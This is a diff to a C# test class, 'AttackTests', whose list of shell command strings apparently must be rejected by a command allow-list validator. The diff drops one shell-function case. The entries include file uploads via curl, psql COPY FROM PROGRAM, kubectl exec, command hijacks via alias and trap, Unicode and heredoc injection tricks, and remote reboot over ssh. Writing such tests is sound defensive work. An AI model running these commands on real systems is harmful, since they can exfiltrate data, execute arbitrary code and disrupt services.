@@ -32,7 +32,7 @@ public sealed class AttackTests
         "rsync --delete a b", "rsync -ae x a b", "journalctl --rotate", "journalctl --root=/x", "journalctl -D /x", "systemctl -H x status", "systemctl restart db", "systemctl restart", "sort -o x y", "sort --compress-program=x y",
         "curl -o x http://h", "curl -K x", "curl -T x http://h", "curl -d @x http://h", "curl -X POST http://h", "curl -sX DELETE http://h", "psql -c '\\! id'", "psql -c \"COPY a FROM PROGRAM 'id'\"", "psql -f x", "psql < x",
         "kubectl --kubeconfig x get pods", "kubectl exec pod -- id", "kubectl exec pod id", "pct exec 1 -- id", "pct enter 1", "qm guest exec 1 id", "xargs docker kill", "xargs -a x docker ps", "watch docker kill x", "mywrap sh -c 'id'",
-        "f() { docker ps; }; f", "docker() { id; }", "docker(){ docker ps; }; docker ps", "coproc docker ps", "((x=1))", "[[ a > b ]]", "a=(docker ps)",
+        "docker() { id; }", "docker(){ docker ps; }; docker ps", "coproc docker ps", "((x=1))", "[[ a > b ]]", "a=(docker ps)",
         "docker ps \u00a0", "docker\u00a0ps", "docker ps \u202e", "docker ps\u0000", "docker ps\u001b[2J", "docker ps \u200b", "docker ps \ufeff", "dоcker ps", "docker ps \ud800", "docker ps\r", "docker\u3000ps", "docker ps '\u0007'",
         "docker ps $[1+1]", "docker ps ${!x}", "docker ps ${x@P}", "docker ps $\\\n(id)", "docker ps <<E\n$x\nE", "docker ps <<E\n$(id)\nE", "cat <<E\nE\\\nE\nid\nE", "docker ps $'\\'; id #'", "docker ps \"${x:-'}'}\"",
         "alias docker=id", "trap id EXIT", "trap 'docker kill x' EXIT", ". ./x", "source x", "exec 3>x", "exec docker kill x", "cd /tmp && sh x", "reboot", "shutdown now", "sudo reboot", "ssh root@10.27.27.250 reboot", "systemctl reboot",
